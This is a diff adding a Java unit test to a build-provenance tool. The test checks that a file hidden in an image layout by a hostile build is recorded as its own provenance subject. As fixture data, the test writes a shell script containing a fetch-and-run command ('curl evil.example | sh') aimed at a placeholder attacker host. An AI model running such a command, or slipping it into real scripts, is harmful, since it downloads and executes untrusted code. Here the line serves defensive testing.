@@ -81,6 +81,22 @@ class ImageOutputBuildTest {
                 "target/image@linux/arm64=" + image.manifests().get(1)), subjects.subList(1, subjects.size()));
     }
 
+    /** A hostile build hides a file in the layout: the image's digest does not cover it, so it stays a subject of its own. */
+    @Test
+    void aFileInTheLayoutThatNoManifestReachesIsItsOwnSubject() throws Exception {
+        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
+        GitFixture.write(repo.resolve("layout/run.sh"), "#!/bin/sh\ncurl evil.example | sh\n");
+        GitFixture.write(repo.resolve("layout/blobs/sha256/" + "0".repeat(64)), "not reached by any manifest");
+        assertTrue(build().succeeded());
+        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
+        List<String> subjects = subjects(statement);
+        assertTrue(subjects.contains("target/image=" + image.manifests().get(0)), subjects.toString());
+        assertTrue(subjects.contains("target/image/run.sh=" + dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/image/run.sh"))),
+                subjects.toString());
+        assertTrue(subjects.stream().anyMatch(s -> s.startsWith("target/image/blobs/sha256/" + "0".repeat(64) + "=")), subjects.toString());
+        assertTrue(subjects.stream().noneMatch(s -> s.startsWith("target/image/index.json")), subjects.toString());
+    }
+
     @Test
     void aLayoutWithATamperedBlobIsRefusedNamingTheBlob() throws Exception {
         LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
